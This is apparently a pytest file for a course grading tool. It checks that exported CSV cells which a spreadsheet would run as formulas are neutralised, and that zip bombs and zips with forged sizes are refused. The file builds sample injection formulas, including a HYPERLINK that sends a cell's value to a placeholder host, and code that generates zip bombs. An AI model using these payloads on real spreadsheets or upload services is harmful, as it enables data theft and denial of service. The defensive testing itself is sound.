"""What grading reads and writes that a spreadsheet or the grader's memory could be attacked
through (issue 36 §8): CSV cells that a spreadsheet would run as formulas, and zips that unpack to
far more than they weigh."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile

import pytest

from generator.grade.collect import MAX_UNPACKED_MIB, collect
from generator.grade.gradebook import csv_text, record, spreadsheet_safe
from generator.grade.lesson import load_lesson
from generator.grade.roster import Student
from generator.grade.rows import make_row
from tests.conftest import REPO

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"open")', "+cmd", "-2+3", "@SUM(1)", "\tx", "\rx"]


@pytest.fixture(scope="module")
def lesson():
    return load_lesson(REPO / "content", "lesson03_relu")


def kernel(lesson, fill: str) -> str:
    return "\n".join(lesson.languages["en"].data["template"]).replace("______", fill, 1) + "\n"


# ---- CSV injection ----------------------------------------------------------------------------


def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote():
    for formula in FORMULAS:
        assert spreadsheet_safe(formula) == "'" + formula
    for text in ("s001", "Wang Fang", "a@x.edu", "", "2+3", "'=x"):
        assert spreadsheet_safe(text) == text
    assert (
        spreadsheet_safe(-2) == -2 and spreadsheet_safe(1.5) == 1.5
    )  # numbers we computed stay numbers


def test_grades_csv_rows_of_formula_ids_names_and_emails(lesson, tmp_path):
    rows = [
        make_row(
            lesson,
            Student(formula, f"{formula} name", f"{formula}@x"),
            None,
            True,
            None,
            None,
            "en",
            "on",
        )
        for formula in FORMULAS
    ]
    text = csv_text(
        ["student_id", "name", "email", "points_automatic"],
        [
            {
                k: v
                for k, v in record(lesson, row, "en", "on").items()
                if k in ("student_id", "name", "email", "points_automatic")
            }
            for row in rows
        ],
    )
    table = list(csv.DictReader(io.StringIO(text)))
    assert [r["student_id"] for r in table] == ["'" + f for f in FORMULAS]
    assert all(r["name"].startswith("'") and r["email"].startswith("'") for r in table)
    assert all(r["points_automatic"] == "0" for r in table)
    cells = [
        c for r in csv.reader(io.StringIO(text)) for c in r
    ]  # what a spreadsheet reads in each cell
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# ---- zip bombs --------------------------------------------------------------------------------


def bomb(megabytes: int, members: int = 1) -> bytes:
    """A zip of zeros that unpacks to `megabytes` MB (written in pieces: the test stays small)."""
    out = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for m in range(members):
            with archive.open(f"data{m}.bin", "w", force_zip64=True) as stream:
                for _ in range(megabytes // members):
                    stream.write(chunk)
    return out.getvalue()


def graded_alone(lesson, tmp_path, name: str, data: bytes):
    (tmp_path / "class" / "alice").mkdir(parents=True)
    (tmp_path / "class" / "alice" / "relu.py").write_text(kernel(lesson, "xv"), encoding="utf-8")
    (tmp_path / "class" / name).write_bytes(data)
    tracemalloc.start()
    started = time.monotonic()
    found = {s.student: s for s in collect(tmp_path / "class", lesson)}
    seconds = time.monotonic() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return found, seconds, peak


def test_a_zip_that_unpacks_to_200_mb_is_refused_from_its_directory(lesson, tmp_path):
    data = bomb(200, members=20)  # 10 MiB each: every member alone is small enough to read
    assert len(data) < 2 << 20
    found, seconds, peak = graded_alone(lesson, tmp_path, "bob.zip", data)
    assert found["bob"].problem[0] in ("zip_too_large", "zip_ratio"), found["bob"].problem
    assert seconds < 2 and peak < 3 * len(data) + (8 << 20), (seconds, peak)
    assert found["alice"].kind == "kernel" and found["alice"].problem is None


def test_the_compression_ratio_refuses_a_bomb_below_the_total(lesson, tmp_path):
    found, _, peak = graded_alone(lesson, tmp_path, "bob.zip", bomb(50, members=5))
    key, values = found["bob"].problem
    assert (key, values["file"], values["limit"]) == ("zip_ratio", "bob.zip", 100)
    assert values["ratio"] > 100 and peak < 16 << 20


def test_nested_zips_count_towards_one_total(lesson, tmp_path, monkeypatch):
    """Each zip alone within the limits, together past the total: the inner one is not opened."""
    import generator.grade.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_RATIO", 10**6)  # the total alone decides here
    inner = bomb(MAX_UNPACKED_MIB - 10, members=9)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("padding.bin", bytes(15 << 20))  # 15 MiB, counted first
        archive.writestr("inner.zip", inner)
    found, _, _ = graded_alone(lesson, tmp_path, "bob.zip", outer.getvalue())
    assert found["bob"].problem == (
        "zip_too_large",
        {"file": "bob.zip/inner.zip", "limit": MAX_UNPACKED_MIB},
    )


def test_a_member_that_unpacks_past_its_declared_size_is_refused(lesson, tmp_path):
    """Declared sizes can lie: a central directory that says 100 bytes for a 2 MiB member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.bin", bytes(2 << 20))
    data = bytearray(out.getvalue())
    size = (2 << 20).to_bytes(4, "little")
    for at in range(len(data) - 4):  # the local header's and the central directory's sizes
        if data[at : at + 4] == size:
            data[at : at + 4] = (100).to_bytes(4, "little")
    found, _, peak = graded_alone(lesson, tmp_path, "bob.zip", bytes(data))
    assert found["bob"].problem[0] == "unreadable_zip", found["bob"].problem
    assert peak < 16 << 20


def test_refusals_are_told_in_both_languages(lesson):
    for locale in ("en", "zh-CN"):
        language = lesson.languages[locale]
        assert "bob.zip" in language.text("zip_too_large", file="bob.zip", limit=100)
        assert "1000" in language.text("zip_ratio", file="bob.zip", ratio=1000, limit=100)
